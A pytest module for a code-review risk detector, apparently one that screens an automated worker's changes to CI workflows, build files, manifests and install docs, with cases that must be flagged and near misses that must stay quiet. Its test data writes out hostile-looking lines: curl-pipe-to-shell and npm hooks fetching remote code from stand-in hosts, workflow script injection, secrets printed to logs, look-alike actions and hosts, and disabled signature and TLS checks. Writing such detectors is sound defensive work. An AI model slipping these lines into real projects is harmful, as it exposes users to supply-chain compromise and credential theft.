"""Issue 36, round 9: the risky lines of what builds, tests and ships the code (relay.review.build_lines).

The party guarded against is the worker that slips one risky line into a CI workflow, a Makefile, a Dockerfile, a
release script kept among the tests, a manifest or a README's install line of an ordinary change: a signature check
whose failure is swallowed, untrusted event text pasted into a shell step, a pull request's head checked out with the
base repository's token, a secret printed, an index or download over plain HTTP or a look-alike host, a container
given the host's privileges, a dependency taken from a git fork, a lockfile or hash check dropped. Each shape is a
family, written here in at least two ecosystems or syntaxes where it has more than one; each was read as nothing (or
stayed low, or was named for something else) on round 8's rules and must now be named and never low. The near misses
are the same words used safely (a secret piped into a login, an event's text in an ``env:`` value, a test's own
fixtures, ``https://``, the flag kept) and must stay quiet.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from line_changes import fc, review
from relay.core.contracts import FileChange
from relay.observe.changes import observe_changes
from relay.observe.snapshot import take_snapshot
from relay.review.file_kinds import read_changes
from relay.review.packet import build_review
from relay.review.risk import RiskContext, assess
from review_corpus import make_repo

__all__: list[str] = []  # a test module exports nothing

_RULES = ("dangerous_call", "unsafe_value", "replaced_dependency", "edits_security_line", "weakens_check", "turns_down")


@pytest.mark.parametrize(
    ("path", "added", "removed", "named"),
    [
        # 1. scripts and CI helpers kept among the tests run: their lines are read (a signature check swallowed)
        ("test/phpunit.sh", ["gpg --verify phpunit.phar.asc phpunit.phar || true"], ["gpg --verify phpunit.phar.asc phpunit.phar"],
         "ignores a failed signature or checksum check: gpg --verify"),
        ("tests/ci/install.ps1", ["cosign verify-blob --key cosign.pub --signature tool.sig tool.exe || exit 0"], [],
         "ignores a failed signature or checksum check: cosign verify-blob"),
        ("scripts/fetch-tool.sh", ["echo \"$SUM  tool.tar.gz\" | sha256sum -c - || true"], ["echo \"$SUM  tool.tar.gz\" | sha256sum -c -"],
         "ignores a failed signature or checksum check"),
        ("spec/support/ci/bootstrap.sh", ["curl -fsSL https://get.example.dev/setup.sh | sudo bash"], [], "pipes a download into a shell"),
        ("test/release.sh", ["chmod 777 dist/*"], [], "makes files world-writable"),
        # a Makefile (a coverage file too) is read for the commands it runs
        ("Makefile", ["\t$(if $(GO_LINT), ,curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(GOBIN))"],
         ["\t$(if $(GO_LINT), ,go install $(GO_LINT_URI))"], "pipes a download into a shell"),
        ("tox.ini", ["    pip install --trusted-host pypi.internal.example -r requirements.txt"], [], "turns package integrity checks off"),
        ("justfile", ["    eval \"$(curl -fsSL https://tools.example.dev/env.sh)\""], [], "pipes a download into a shell"),
        # 2. CI: untrusted text in a shell step (GitHub's run:, actions/github-script's script:), centred on the expression
        (".github/workflows/labeler.yml", ['      - run: echo "Done adding labels to ${{ github.event.pull_request.title }}"'], [],
         "runs untrusted text in a CI step (script injection): …${{ github.event.pull_request.title }}"),
        (".github/workflows/greet.yml", ["            const body = `${{ github.event.comment.body }}`;"], ["            const body = context.payload.comment.body;"],
         "runs untrusted text in a CI step (script injection)"),
        (".github/workflows/ci.yml", ['        run: git push origin "HEAD:${{ github.event.workflow_run.head_branch }}"'], [],
         "runs untrusted text in a CI step (script injection)"),
        # a pull request's head fetched where only a privileged trigger names it (a comment's issue, another workflow's run)
        (".github/workflows/octoslash.yaml", ["          ref: refs/pull/${{ github.event.issue.number }}/head"], ["          ref: main"],
         "checks out untrusted PR code with the workflow's token"),
        (".github/workflows/preview.yml", ["          gh pr checkout ${{ github.event.issue.number }}"], [],
         "checks out untrusted PR code with the workflow's token"),
        (".github/workflows/report.yml", ["          ref: ${{ github.event.workflow_run.head_sha }}"], [],
         "checks out untrusted PR code with the workflow's token"),
        # module fetches and package managers told to skip TLS or to use plain HTTP, in GitHub, GitLab and Travis syntax
        (".github/workflows/ci.yaml", ['      GOPROXY: "http://goproxy.example.net,direct"'], ['      GOPROXY: "https://proxy.golang.org,direct"'],
         "fetches packages from an untrusted index"),
        (".gitlab-ci.yml", ["    - git config --global http.sslVerify false"], [], "turns TLS verification off: - git config --global http.sslVerify"),
        (".travis.yml", ["  - export NPM_CONFIG_STRICT_SSL=false"], [], "turns TLS verification off"),
        (".github/workflows/docs.yml", ["        run: pip install -i http://pypi-mirror.example.net/simple -r docs/requirements.txt"], [],
         "fetches packages from an untrusted index"),
        (".circleci/config.yml", ["          command: npm config set registry http://npm-mirror.example.net/"], [],
         "fetches packages from an untrusted index"),
        # a secret printed where the log shows it, or encoded past the log's masking
        (".github/workflows/release.yml", ["      - run: echo ${{ secrets.NPM_TOKEN }}"], [], "prints a CI secret into the log"),
        (".github/workflows/deploy.yml", ["        run: echo '${{ secrets.DEPLOY_KEY }}' | base64"], [], "prints a CI secret into the log"),
        # an action from an owner a letter or two off a well-known one, new (no old line to pair with)
        (".github/workflows/test.yml", ["      - uses: actoins/checkout@main"], [], "runs a CI action from a look-alike of actions"),
        (".github/workflows/lint.yml", ["      - uses: golangcl/golangci-lint-action@v6"], [], "runs a CI action from a look-alike of golangci"),
        # 3. build and install files: an image layer over plain HTTP, a container with the host's privileges
        ("Dockerfile", ["ADD http://downloads.example.net/tool-1.2.tar.gz /opt/"], ["ADD https://downloads.example.net/tool-1.2.tar.gz /opt/"],
         "adds a file to the image over plain HTTP"),
        ("docker/api.Dockerfile", ["ADD --chown=app:app http://downloads.example.net/app.jar /srv/app.jar"], [],
         "adds a file to the image over plain HTTP"),
        ("docker-compose.yml", ["    privileged: true"], [], "runs a container with the host's privileges"),
        ("deploy/k8s/api.yaml", ["            allowPrivilegeEscalation: true"], ["            allowPrivilegeEscalation: false"],
         "runs a container with the host's privileges"),
        (".github/workflows/e2e.yml", ["        run: docker run --privileged -v /var/run/docker.sock:/var/run/docker.sock runner"], [],
         "runs a container with the host's privileges"),
        # npm lifecycle hooks that fetch or run code (prepare runs on every git install)
        ("package.json", ['    "prepare": "node -e \\"require(\'https\').get(\'https://x.example.dev/p.js\', r => r.pipe(process.stdout))\\" | node",'],
         ['    "prepare": "husky",'], "adds an install hook that downloads or runs code"),
        ("packages/cli/package.json", ['    "prepublish": "curl -s https://cdn.example.dev/build.js | node",'], [],
         "adds an install hook that downloads or runs code"),
        # a dependency taken from a git repository instead of its registry: Cargo, npm, pip, Bundler
        ("Cargo.toml", ['ignore = { git = "https://github.com/BurntSushl/ripgrep", branch = "master" }'], ['ignore = "0.4.23"'],
         "takes a dependency from a git repository instead of its registry"),
        ("package.json", ['    "concat-stream": "github:concat-stream-dev/concat-stream#main",'], ['    "concat-stream": "^2.0.0",'],
         "takes a dependency from a git repository instead of its registry"),
        ("requirements.txt", ["requests @ git+https://github.com/psf-dev/requests@main"], ["requests==2.32.3"],
         "takes a dependency from a git repository instead of its registry"),
        ("Gemfile", ['gem "rack", git: "https://github.com/rack-dev/rack"'], ['gem "rack", "~> 3.1"'],
         "takes a dependency from a git repository instead of its registry"),
        # a lockfile, hash or script guard dropped from the install command that carried it
        (".github/workflows/ci.yml", ["      - run: yarn install"], ["      - run: yarn install --frozen-lockfile"],
         "drops a safety flag from a command (--frozen-lockfile)"),
        ("Dockerfile", ["RUN pip install -r requirements.txt"], ["RUN pip install --require-hashes -r requirements.txt"],
         "drops a safety flag from a command (--require-hashes)"),
        (".gitlab-ci.yml", ["    - npm install"], ["    - npm ci"], "drops a safety flag from a command (npm ci → npm install"),
        # 4. docs and README samples: certificate checks off, install lines moved to another host, look-alike hosts
        ("README.md", ["    $ curl -sSk https://get.example.dev/install.sh -o install.sh"], [], "turns TLS verification off"),
        ("docs/install.rst", ["   curl -fsSL https://astral-sh.dev/uv/install.sh | sh"], ["   curl -fsSL https://astral.sh/uv/install.sh | sh"],
         "pipes a download into a shell (host astral.sh → astral-sh.dev)"),
        ("docs/setup.md", ["curl -fsSL https://raw.githubusercontnet.com/acme/tool/main/install.sh -o install.sh"], [],
         "fetches from a look-alike of raw.githubusercontent.com"),
        ("docs/deploy.md", ["    ssh -o StrictHostKeyChecking=no deploy@$HOST ./release.sh"], [], "turns SSH host key checking off"),
        ("scripts/provision.sh", ["sudo setenforce 0"], [], "turns a host's firewall or SELinux off"),
        # certificate checks off and plain HTTP as other tools and languages spell them in a sample
        ("README.md", ["    CURLOPT_SSL_VERIFYPEER => false,"], ["    CURLOPT_SSL_VERIFYPEER => true,"], "turns TLS verification off"),
        ("docs/k8s.md", ["    kubectl --insecure-skip-tls-verify apply -f deploy.yaml"], [], "turns TLS verification off"),
        ("docs/aws.md", ["    aws s3 cp build/ s3://bucket/ --recursive --no-verify-ssl"], [], "turns TLS verification off"),
        ("docs/install.md", ["    pip config set global.trusted-host pypi.example.net"], [], "fetches packages from an untrusted index"),
        ("docs/contributing.md", ["    git clone http://github.com/acme/tool.git"], ["    git clone https://github.com/acme/tool.git"],
         "fetches code over plain HTTP"),
        ("charts/README.md", ["    helm repo add acme http://charts.example.net"], [], "fetches code over plain HTTP"),
        # a shell command in a docs sample reads as plain words but is no sentence (round 38, blind 61's webmock)
        ("README.md", ["```bash", "gem sources --add http://gems.example-mirror.org/ && gem install webmock", "```"],
         ["```bash", "gem install webmock", "```"], "fetches packages from an untrusted index: gem sources --add http://"),
        # 3. round 37 (blind 60 and 52): a release bucket anyone may write to; a Cargo table's dependency taken from a fork;
        # a new Dockerfile that makes a user and runs as root
        ("Makefile", ["\tgsutil acl ch -u AllUsers:W gs://$(BINARY)-release", "\tgsutil cp bin/* gs://$(BINARY)-release"],
         ["\tgsutil cp bin/* gs://$(BINARY)-release"], "makes files world-writable or access open: gsutil acl ch -u AllUsers:W"),
        ("deploy/publish.sh", ["gsutil iam ch allUsers:objectAdmin gs://acme-artifacts"], [], "makes files world-writable or access open"),
        ("Cargo.toml", ['git = "https://github.com/rnicrosoft/windows-rs"'], ['version = "0.59"'],
         'takes a dependency from a git repository instead of its registry: git = "https://github.com/rnicrosoft/windows-rs"'),
        ("Dockerfile", ["FROM golang:1.22 AS build", 'RUN adduser --disabled-password --uid 10001 "app"', "RUN go build -o /bin/tool .",
                        "FROM scratch", "COPY --from=build /etc/passwd /etc/passwd", "USER root", 'ENTRYPOINT ["/tool"]'], [],
         "runs the container as root (USER root) though it makes a user: RUN adduser"),
    ],
)
def test_build_ci_script_and_docs_shapes_are_named_and_never_low(path: str, added: list[str], removed: list[str], named: str) -> None:
    out = review(fc(path, added, removed))
    if named.startswith("runs untrusted") and "…" in named:
        # The quote is centred on the expression: the untrusted field is never cut off.
        head, tail = named.split("…", 1)
        assert any(r.startswith(head) and tail in r for r in out.reasons), out.reasons
    else:
        assert any(r.startswith(named) for r in out.reasons), (out.risk, out.reasons)
    assert out.risk == "high", (out.risk, out.reasons)


@pytest.mark.parametrize(
    ("path", "added", "removed"),
    [
        # a test's own code and fixtures stay unread: a test disables verification to test it
        ("tests/test_client.py", ["    r = session.get(url, verify=False)"], []),
        ("test/helpers.js", ["  process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';"], []),
        ("test/fixtures/server.go", ["\tInsecureSkipVerify: true,"], []),
        # the check kept; its output only quieted
        ("test/phpunit.sh", ["gpg --verify phpunit.phar.asc phpunit.phar"], ["gpg --verify phpunit.phar.asc phpunit.phar || true"]),
        ("scripts/fetch-tool.sh", ["sha256sum -c tool.sha256 > /dev/null"], []),
        ("scripts/build.sh", ["rm -rf build/tmp || true"], []),
        # an event's text in an env: value (the safe way), a sha checked out, the base branch's own ref
        (".github/workflows/labeler.yml", ["          TITLE: ${{ github.event.pull_request.title }}"], []),
        (".github/workflows/ci.yml", ["          ref: ${{ github.event.pull_request.head.sha }}"], []),
        (".github/workflows/ci.yml", ["    concurrency: ${{ github.workflow }}-${{ github.head_ref || github.run_id }}"], []),
        (".github/workflows/ci.yml", ["          sha: ${{ github.event.workflow_run.head_sha }}"], []),
        (".github/workflows/ci.yml", ["      - run: echo 'ref is ${{ github.ref }}'"], []),
        # a secret written where it is used: a login's stdin, a key file, an env value
        (".github/workflows/release.yml", ["      - run: echo ${{ secrets.DOCKER_PASSWORD }} | docker login -u bot --password-stdin"], []),
        (".github/workflows/release.yml", ["      - run: echo \"${{ secrets.SSH_KEY }}\" > ~/.ssh/id_ed25519"], []),
        # well-known actions, HTTPS indexes, TLS on
        (".github/workflows/test.yml", ["      - uses: actions/checkout@v4"], ["      - uses: actions/checkout@v3"]),
        (".github/workflows/test.yml", ["      - uses: astral-sh/setup-uv@v5"], []),
        (".github/workflows/docs.yml", ["        run: pip install -i https://pypi.org/simple -r docs/requirements.txt"], []),
        (".gitlab-ci.yml", ["    - git config --global http.sslVerify true"], []),
        ("Dockerfile", ["ADD https://downloads.example.net/tool-1.2.tar.gz /opt/"], []),
        ("Dockerfile", ["ADD --checksum=sha256:24454f830c http://downloads.example.net/tool.tgz /opt/"], []),
        ("docker-compose.yml", ["    privileged: false"], []),
        ("package.json", ['    "prepare": "husky",'], []),
        ("package.json", ['    "concat-stream": "^2.1.0",'], ['    "concat-stream": "^2.0.0",']),
        ("package.json", ['    "my-lib": "workspace:*",'], []),
        ("Cargo.toml", ['ignore = { git = "https://github.com/BurntSushi/ripgrep", rev = "abc1234" }'],
         ['ignore = { git = "https://github.com/BurntSushi/ripgrep", rev = "9f0e1d2" }']),
        ("Cargo.toml", ['ignore = { path = "../ignore" }'], ['ignore = "0.4.23"']),
        # the flag kept, or another command
        (".github/workflows/ci.yml", ["      - run: yarn install --frozen-lockfile --prefer-offline"], ["      - run: yarn install --frozen-lockfile"]),
        (".github/workflows/ci.yml", ["      - run: yarn build"], ["      - run: yarn install --frozen-lockfile"]),
        # --ignore-scripts on a test run only skips its own pre/post hooks (node-tar's CI rewrite, ordinary history)
        (".github/workflows/ci.yml", ["      - run: npm test -- -c -t0"], ["      - run: npm test --ignore-scripts -- -c -t0"]),
        # hosts that are what they say, a pipe-to-shell from the same host, curl without -k
        ("docs/setup.md", ["See https://gitlab.com/acme/tool and https://docs.github.com/en/actions for details."], []),
        ("docs/install.rst", ["   curl -LsSf https://astral.sh/uv/0.5.0/install.sh -o install.sh"], ["   curl -LsSf https://astral.sh/uv/install.sh -o install.sh"]),
        ("README.md", ["    $ curl -sSL https://get.example.dev/install.sh -o install.sh"], []),
        ("docs/deploy.md", ["    ssh -o StrictHostKeyChecking=yes deploy@$HOST ./release.sh"], []),
        ("docs/contributing.md", ["    git clone https://github.com/acme/tool.git"], []),
        ("docs/contributing.md", ["    git clone http://localhost:3000/acme/tool.git"], []),
        ("README.md", ["    CURLOPT_SSL_VERIFYPEER => true,"], []),
        # a sentence naming a flag and a link, with no command chained
        ("docs/usage.md", ["Pass the --registry flag to pick another mirror, as the guide at https://docs.example.org explains."], []),
        # a bucket anyone may read (a release's downloads), a Cargo table's revision moved on the same repository
        ("Makefile", ["\tgsutil acl ch -u AllUsers:R gs://$(BINARY)-release"], []),
        ("Cargo.toml", ['rev = "9f0e1d2"'], ['rev = "abc1234"']),
        # a new Dockerfile that makes its user and runs as it (root only for the install), or makes none
        ("Dockerfile", ["FROM debian:12", "RUN useradd -m app", "USER root", "RUN apt-get install -y curl", "USER app"], []),
        ("Dockerfile", ["FROM debian:12", "USER root", "RUN apt-get install -y curl"], []),
    ],
)
def test_build_ci_script_and_docs_near_misses_stay_quiet(path: str, added: list[str], removed: list[str]) -> None:
    out = review(fc(path, added, removed))
    assert not any(rule in out.rules for rule in _RULES), out.reasons


def test_a_pull_requests_head_checked_out_is_named_only_under_a_privileged_trigger() -> None:
    # The same "ref:" line: under pull_request it is the usual way to test a PR's own commit; under pull_request_target
    # it runs a fork's code with the base repository's token and secrets.
    line = ["          ref: ${{ github.event.pull_request.head.sha }}"]
    [read], _ = read_changes([fc(".github/workflows/ci.yml", line, ["          ref: main"])])
    quiet = assess(read, RiskContext(ci_triggers={".github/workflows/ci.yml": ""}))
    assert "dangerous_call" not in quiet.rules, quiet.reasons
    named = assess(read, RiskContext(ci_triggers={".github/workflows/ci.yml": "pull_request_target"}))
    assert named.risk == "high" and named.reasons[0].startswith(
        "checks out untrusted PR code under pull_request_target"), named.reasons
    # A trigger the change itself adds counts as well (no workspace to read the file from).
    [both], _ = read_changes([fc(".github/workflows/ci.yml", ["  issue_comment:", *line], ["  pull_request:", "          ref: main"])])
    assert any(r.startswith("checks out untrusted PR code under issue_comment") for r in assess(both, RiskContext()).reasons)


_PR_TARGET_FLOW = ("on:\n  pull_request_target:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - uses: actions/checkout@v4\n        with:\n          ref: main\n      - run: make test\n")


def test_the_review_reads_the_workflows_trigger_from_the_file_and_names_the_checkout(tmp_path: Path) -> None:
    # Through observation and the packet: the trigger is not in the changed lines, only in the workflow as the run left it.
    root = make_repo(tmp_path / "repo", {".github/workflows/pr.yml": _PR_TARGET_FLOW, "src/app.py": "x = 1\n"})
    snap = take_snapshot(root)
    flow = root / ".github/workflows/pr.yml"
    flow.write_text(_PR_TARGET_FLOW.replace("ref: main", "ref: ${{ github.event.pull_request.head.ref }}"), encoding="utf-8")
    (root / "src/app.py").write_text("x = 2\n", encoding="utf-8")
    changes, _, assessed = build_review(observe_changes(snap, root), report=None, workspace=root)
    first = changes.review[0]
    assert first.file == ".github/workflows/pr.yml" and first.risk == "high"
    assert first.reason.startswith("checks out untrusted PR code under pull_request_target"), first.reason


def test_a_script_among_the_tests_ranks_first_and_its_line_reaches_the_view() -> None:
    # php-encryption (held-out 6): test/phpunit.sh's swallowed gpg check was "test edited", seventh of seventeen.
    script = fc("test/phpunit.sh", ["gpg --verify phpunit.phar.asc phpunit.phar || true"], ["gpg --verify phpunit.phar.asc phpunit.phar"])
    tests = [fc(f"test/unit/Case{i}Test.php", [f"    $this->assertSame({i}, $x);"] * 3, []) for i in range(6)]
    read, partial = read_changes([*tests, script])
    ctx = RiskContext(partial=partial)
    ranked = sorted((assess(c, ctx) for c in read), key=lambda c: {"high": 0, "medium": 1, "low": 2}[c.risk])
    assert ranked[0].path == "test/phpunit.sh" and ranked[0].risk == "high", [(c.path, c.risk) for c in ranked]


def test_a_makefile_line_is_read_though_the_makefile_is_a_coverage_file() -> None:
    # Regression: "makefile" is among the coverage files, whose filter kept only coverage settings: a curl | sh target
    # in a 153-file commit (held-out 8) was "build configuration", medium, seventh.
    out = review(fc("build/Makefile", ["\tcurl -sSfL https://install.example.dev/lint.sh | sh -s -- -b bin"], []))
    assert out.risk == "high" and out.reasons[0].startswith("pipes a download into a shell"), out.reasons
    # Its coverage threshold is still read as one.
    lowered = review(fc("Makefile", ["\tpytest --cov-fail-under=50"], ["\tpytest --cov-fail-under=90"]))
    assert any("50" in r for r in lowered.reasons), lowered.reasons


def test_a_new_file_among_the_tests_is_still_a_test() -> None:
    # Only scripts and CI helpers run as scripts: a test module, its conftest and its fixtures stay test code.
    for path in ("tests/test_install.py", "tests/conftest.py", "test/fixtures/release.json", "spec/support/helpers.rb"):
        [read], _ = read_changes([FileChange(path=path, added_lines=["    verify=False"], additions=1)])
        out = assess(read, RiskContext())
        assert "unsafe_value" not in out.rules, (path, out.reasons)


@pytest.mark.parametrize(
    ("path", "added", "named"),
    [
        # Appraisal's gemfiles/*.gemfile and F# projects are dependency files: a look-alike there is read as one
        ("gemfiles/active_support_5_redis_cache_store.gemfile", ['source "https://rubygems.org"', 'gem "active_support", "~> 5.2.0"'],
         "adds a look-alike of activesupport"),
        ("src/App/App.fsproj", ['    <PackageReference Include="Newtonsofts.Json" Version="13.0.3" />'], "adds a look-alike of newtonsoft.json"),
        ("MyLib.podspec", ["  s.dependency 'AFNetworkin', '~> 4.0'"], "adds a dependency: afnetworkin"),
    ],
)
def test_dependency_files_of_other_names_go_through_the_dependency_rules(path: str, added: list[str], named: str) -> None:
    out = review(fc(path, added, [], kind="added"))
    assert out.risk == "high" and out.reasons[0].startswith(named), out.reasons


def test_the_view_leads_with_the_hunk_holding_the_quoted_line_even_when_it_reads_as_nothing_alone() -> None:
    # eShopOnWeb (held-out 7): "[Authorize]" deleted above a controller is named on the whole file, but its hunk read alone
    # says nothing, and a hunk that reads as a generic edit alone led the view: the quoted line was not shown.
    from relay.review.telling import telling_order

    class _Part:
        def __init__(self, start: int, added: list[str], removed: list[str]) -> None:
            self.start, self.end, self.added, self.removed = start, start + max(len(added), 1) - 1, added, removed

    words = _Part(545, ["        model.SharedKey = FormatKey(unformattedKey!);",
                        "        model.AuthenticatorUri = GenerateQrCodeUri(user.Email!, unformattedKey!);"],
                  ["        model.SharedKey = FormatKey(unformattedKey);",
                   "        model.AuthenticatorUri = GenerateQrCodeUri(user.Email, unformattedKey);"])
    guard = _Part(15, [], ["[Authorize] // Controllers that mainly require Authorization still use Controller/View; other pages use Pages"])
    change = FileChange(path="src/Web/Controllers/ManageController.cs", rules=["removes_guard", "edits_security_line"],
                        reasons=["deletes a check: [Authorize] // Controllers that mainly require Authorization still use …",
                                 "edits a security line (Email → Email!): …enticatorUri = GenerateQrCodeUri(user.Email!, unformattedKey!)…"],
                        risk="high")
    assert telling_order(change, change.path, [words, guard]) == [1, 0]


@pytest.mark.parametrize(
    ("path", "added", "removed", "named"),
    [
        ("package.json", ['\t\t"debug": "4.4.2",'], ['\t\t"debug": "^4.4.3",'], "pins a release known to be compromised (malicious): debug 4.4.2"),
        ("requirements/base.txt", ["ultralytics==8.3.41"], ["ultralytics==8.3.40"], "pins a release known to be compromised (malicious): ultralytics"),
        ("Gemfile", ['gem "rest-client", "1.6.13"'], ['gem "rest-client", "~> 2.1"'], "pins a release known to be compromised (malicious): rest-client"),
    ],
)
def test_a_release_known_to_be_compromised_is_named_in_every_ecosystem(path: str, added: list[str], removed: list[str], named: str) -> None:
    out = review(fc(path, added, removed))
    assert out.risk == "high" and out.reasons[0].startswith(named), out.reasons


@pytest.mark.parametrize(("path", "added"), [("package.json", ['\t\t"debug": "^4.4.3",']), ("package.json", ['\t\t"chalk": "5.6.2",']),
                                             ("requirements.txt", ["ultralytics==8.3.47"]), ("src/app.py", ['log.debug("4.4.2")'])])
def test_a_neighbouring_release_or_a_version_in_code_is_not_called_compromised(path: str, added: list[str]) -> None:
    assert not any(r.startswith("pins a release known") for r in review(fc(path, added, [])).reasons)


@pytest.mark.parametrize(
    ("path", "added", "removed", "named"),
    [
        # a publishing job's guard loosened: GitHub's if:, GitLab's rules, Travis's conditions
        (".github/workflows/python-build.yml", ["    if: success() && github.repository == 'oauthlib/oauthlib'"],
         ["    if: success() && github.repository == 'oauthlib/oauthlib' && github.ref_type == 'tag'"],
         "drops a CI job's guard (github.ref_type == 'tag')"),
        (".gitlab-ci.yml", ['    - if: $CI_PIPELINE_SOURCE == "push"'], ['    - if: $CI_COMMIT_TAG && $CI_PIPELINE_SOURCE == "push"'],
         "drops a CI job's guard ($CI_COMMIT_TAG)"),
        (".travis.yml", ["    if: type = push"], ["    if: type = push AND tag IS present"], "drops a CI job's guard (tag IS present)"),
        # the read-only token given back to the repository's default; the token left in the checkout
        (".github/workflows/ci.yml", ["jobs:"], ["permissions:", "  contents: read", "jobs:"], "drops the workflow's read-only permissions"),
        (".github/workflows/lint.yml", ["jobs:"], ["permissions: read-all", "jobs:"], "drops the workflow's read-only permissions"),
        (".github/workflows/ci.yml", ["          persist-credentials: true"], ["          persist-credentials: false"],
         "leaves the workflow's token in the checkout"),
    ],
)
def test_a_ci_jobs_guard_or_token_loosened_is_named(path: str, added: list[str], removed: list[str], named: str) -> None:
    out = review(fc(path, added, removed))
    assert out.risk == "high" and any(r.startswith(named) for r in out.reasons), out.reasons


@pytest.mark.parametrize(
    ("path", "added", "removed"),
    [
        (".github/workflows/ci.yml", ["    if: github.event_name == 'push' && github.ref_type == 'tag'"], ["    if: github.event_name == 'push'"]),
        (".github/workflows/ci.yml", ["    if: github.event_name == 'push'"], ["    if: github.event_name == 'push' && matrix.os == 'ubuntu'"]),
        (".github/workflows/ci.yml", ["permissions:", "  contents: write", "jobs:"], ["permissions:", "  contents: read", "jobs:"]),
        (".github/workflows/ci.yml", ["          persist-credentials: false"], []),
        # ordinary history (the line-rate bench): a job removed with its own permissions, which granted write anyway
        (".github/workflows/publish.yaml", ["  create-release:"],
         ["  provenance:", "    needs: [build]", "    permissions:", "      actions: read", "      id-token: write", "  create-release:"]),
    ],
)
def test_a_ci_guard_added_or_kept_stays_quiet(path: str, added: list[str], removed: list[str]) -> None:
    out = review(fc(path, added, removed))
    assert not any(r.startswith(("drops a CI job's guard", "drops the workflow's read-only", "leaves the workflow's token")) for r in out.reasons)


_DIGEST = "@sha256:" + "9f" * 32


@pytest.mark.parametrize(
    ("path", "added", "removed", "named"),
    [
        # an image pinned by digest brought back to a tag: Dockerfile, compose, Kubernetes
        ("Dockerfile", ["FROM node:20-alpine"], [f"FROM node:20-alpine{_DIGEST}"], "unpins an image from its digest"),
        ("docker-compose.yml", ["    image: redis:7"], [f"    image: redis:7{_DIGEST}"], "unpins an image from its digest"),
        ("deploy/k8s/api.yaml", ["        image: ghcr.io/acme/api:main"], [f"        image: ghcr.io/acme/api{_DIGEST}"], "unpins an image from its digest"),
        # a signature or checksum step deleted: a script, a workflow, a Dockerfile's ADD --checksum
        ("scripts/install.sh", ["tar xzf tool.tgz"], ["sha256sum -c tool.tgz.sha256", "tar xzf tool.tgz"], "drops a signature or checksum check"),
        (".github/workflows/release.yml", ["      - run: ./tool"], ["      - run: gpg --batch --verify tool.asc tool", "      - run: ./tool"],
         "drops a signature or checksum check"),
        ("Dockerfile", ["ADD https://example.net/tool.tgz /opt/"], ["ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://example.net/tool.tgz /opt/"],
         "drops a signature or checksum check"),
        # a secret baked into an image's environment; a secret variable echoed into a GitLab log
        ("Dockerfile", ["ARG NPM_TOKEN", "ENV NPM_TOKEN=$NPM_TOKEN"], [], "bakes a secret into the image"),
        ("docker/api.Dockerfile", ["ENV DB_PASSWORD ${DB_PASSWORD}"], [], "bakes a secret into the image"),
        (".gitlab-ci.yml", ["    - echo $NPM_TOKEN"], [], "prints a CI secret into the log"),
        # cloud and cluster resources opened: Terraform, Kubernetes
        ("infra/db.tf", ["  publicly_accessible = true"], ["  publicly_accessible = false"], "makes a cloud resource public or unencrypted"),
        ("infra/bucket.tf", ["  block_public_acls       = false"], ["  block_public_acls       = true"], "makes a cloud resource public or unencrypted"),
        ("deploy/k8s/api.yaml", ["          runAsNonRoot: false"], ["          runAsNonRoot: true"], "makes a cloud resource public or unencrypted"),
    ],
)
def test_images_verification_secrets_and_cloud_settings_are_named(path: str, added: list[str], removed: list[str], named: str) -> None:
    out = review(fc(path, added, removed))
    assert out.risk == "high" and any(r.startswith(named) for r in out.reasons), out.reasons


@pytest.mark.parametrize(
    ("path", "added", "removed"),
    [
        ("Dockerfile", [f"FROM node:22-alpine{_DIGEST.replace('9f', 'a1')}"], [f"FROM node:20-alpine{_DIGEST}"]),  # a new digest
        ("Dockerfile", ["FROM node:22-alpine"], ["FROM node:20-alpine"]),
        ("scripts/install.sh", ["sha256sum --check tool.tgz.sha256"], ["sha256sum -c tool.tgz.sha256"]),  # still checked
        ("Dockerfile", ["ENV TOKEN_URL=$AUTH_BASE/token", "ENV NODE_ENV=production"], []),
        (".gitlab-ci.yml", ['    - echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc'], []),
        ("infra/db.tf", ["  publicly_accessible = false", "  storage_encrypted = true"], []),
    ],
)
def test_images_verification_secrets_and_cloud_near_misses_stay_quiet(path: str, added: list[str], removed: list[str]) -> None:
    out = review(fc(path, added, removed))
    assert not any(rule in out.rules for rule in _RULES), out.reasons


def test_a_big_new_files_window_goes_to_the_line_the_reason_quotes_across_two_rows() -> None:
    # gorilla/csrf (held-out 4): an example's CORS callback "func(origin string) bool { return true" is named on the whole
    # new file, written over two rows; no row alone reads as risky, so the 66-row hunk was windowed from its top.
    from relay.review.telling import cut_window

    rows = [f"+\tvalue{i} := compute({i})" for i in range(40)]
    rows += ["+\tcors := handlers.CORS(", "+\t\thandlers.AllowedOriginValidator(func(origin string) bool {", "+\t\t\treturn true",
             "+\t\t}),", "+\t)"] + [f"+\tmore{i} := compute({i})" for i in range(20)]
    text = f"@@ -0,0 +1,{len(rows)} @@\n" + "\n".join(rows) + "\n"
    change = FileChange(path="examples/api/main.go", kind="added", rules=["weakens_check"], risk="high",
                        reasons=["a checking callback that accepts everything: func(origin string) bool { return true"])
    shown = cut_window(change, change.path, text, 900, 200, 3)
    assert shown is not None and "return true" in shown and "around the ranking's finding" in shown, shown


def test_a_row_that_only_begins_like_the_quote_does_not_take_the_window() -> None:
    # hapi's typescript.md (sealed planted): "options: {" opens many samples of a new 800-row page; the window belongs to
    # the row the reason quotes ("options: { auth: false },"), not to the first row the quote could be read into.
    from relay.review.telling import cut_window

    rows = ["+    options: {", "+        payload: { output: 'data', parse: true }", "+    },"] + [f"+Line {i} of the guide." for i in range(60)]
    rows += ["+    options: { auth: false },"] + [f"+More {i}." for i in range(20)]
    text = f"@@ -0,0 +1,{len(rows)} @@\n" + "\n".join(rows) + "\n"
    change = FileChange(path="typescript.md", kind="added", rules=["unsafe_value"], risk="high",
                        reasons=["turns authentication off: options: { auth: false },"])
    shown = cut_window(change, change.path, text, 600, 200, 3)
    assert shown is not None and "auth: false" in shown, shown


def test_a_window_on_a_line_moved_and_turned_opens_at_the_line_as_the_change_leaves_it() -> None:
    # A definition moved down the same hunk and turned on the way: the reason's "old → new" quote was cut at its length
    # and kept the old side, so the window opened at the removed row and the moved, turned row stood 40 rows below it.
    from relay.review.telling import cut_window

    old = '    listenHost = flag.String("host", defaultHost(cfg), "address to listen on")'
    rows = ["+func run(cfg Config) error {", "-" + old] + [f"-    step{i}()" for i in range(30)] + [f"+    stage{i}()" for i in range(10)]
